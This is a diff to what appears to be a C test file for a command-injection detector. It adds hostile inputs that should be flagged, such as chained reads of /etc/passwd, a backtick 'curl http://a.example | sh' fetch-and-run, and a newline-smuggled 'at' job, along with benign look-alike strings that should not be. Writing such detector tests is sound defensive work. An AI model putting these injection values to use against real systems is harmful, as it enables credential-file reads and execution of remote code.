@@ -607,6 +607,14 @@ static const char *const found[] = {
 	"abc\"|id",
 	"abc\"); id //",
 	NULL,
+	/* what looks like the heads of scripts, cells, spans and frames */
+	"x | foo | cat /etc/passwd",
+	"10.0.0.1\nat now + 1 minute -f /tmp/x",
+	"x`curl http://a.example | sh`",
+	"[x]; cat /etc/passwd",
+	"$x; cat /etc/passwd",
+	"|id|",
+	"a; do=1; id; cat /etc/passwd",
 };
 
 static const char *const left[] = {
@@ -797,6 +805,17 @@ static const char *const left[] = {
 	"Fix bug; less noise, more signal",
 	"select the union members from the list; drop us a line -- thanks",
 	"Steps to reproduce:\n1. run ls -la\n2. cat /etc/hosts\n",
+	"[ -f .env ] && . ./.env",
+	"[[ -n \"$CI\" ]] && . ./.env",
+	"$x = Get-Date; Write-Host \"It's $x\"",
+	"until pg_isready -h db; do sleep 1; done",
+	"ci: replace `curl | bash` by a pinned action",
+	"| cmd | does |\n|---|---|\n| `ls` | list |\n| `id` | who |",
+	"| id | whoami | env |",
+	"a sourcetype=access status>=500 | stats count by host | sort -count",
+	"TypeError: Cannot read properties of undefined (reading 'map')\n    at render (/app/l.js:1:2)\n    at "
+	"process.tick (node:internal/task:95:5)",
+	"\"3f2a-1b2c;gzip\"",
 	"feat: add id; fix host lookup",
 	"Merge branch 'main' into dev; resolve conflicts",
 	"<p>one</p>; <b>two</b>",
